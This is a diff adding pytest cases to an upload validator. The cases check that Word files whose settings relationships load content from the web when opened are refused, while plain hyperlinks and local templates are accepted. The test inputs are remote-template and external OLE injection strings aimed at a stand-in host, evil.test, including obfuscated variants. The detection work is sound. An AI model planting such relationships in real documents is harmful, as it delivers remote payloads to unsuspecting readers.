@@ -106,6 +106,38 @@ def test_what_is_not_taken_is_refused_with_the_remedy(content: bytes, word: str)
         recognise(io.BytesIO(content))
 
 
+TEMPLATE = 'Type="http://schemas.test/relationships/attachedTemplate"'
+SETTINGS = "word/_rels/settings.xml.rels"
+
+
+@pytest.mark.parametrize(
+    "relation",
+    [
+        f'<Relationship Id="r" {TEMPLATE} Target="https://evil.test/a.dotm" TargetMode="External"/>',
+        f'<x:Relationship Id="a>b" TargetMode="External" Target = " HTTP://evil.test/a" {TEMPLATE}/>',
+        f"<Relationship Target='&#104;ttp://evil.test/a' {TEMPLATE}/>",
+        '<Relationship Type="urn:x/oleObject" Target="https://evil.test/a" TargetMode="External"/>',
+        '<!DOCTYPE a [<!ENTITY b "https://evil.test/a">]>',
+    ],
+)
+def test_what_loads_something_from_the_web_is_refused(relation: str) -> None:
+    """A document without macros that brings some when it is opened."""
+    with pytest.raises(UnfitFile, match="từ mạng"):
+        recognise(io.BytesIO(docx(**{SETTINGS: f"<Relationships>{relation}</Relationships>"})))
+
+
+@pytest.mark.parametrize(
+    "relation",
+    [
+        '<Relationship Type="urn:x/hyperlink" Target="https://khanhhoa.test" TargetMode="External"/>',
+        # As Word writes it for any template of one's own.
+        f'<Relationship {TEMPLATE} Target="file:///C:\\Users\\a\\Mau.dotx" TargetMode="External"/>',
+    ],
+)
+def test_links_that_wait_for_a_click_and_own_templates_are_taken(relation: str) -> None:
+    assert recognise(io.BytesIO(docx(**{SETTINGS: relation}))) is DOCX
+
+
 def test_an_archive_that_unpacks_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr("operations.file_kinds.MAX_UNPACKED", 100)
     with pytest.raises(UnfitFile, match="giải nén ra quá lớn"):
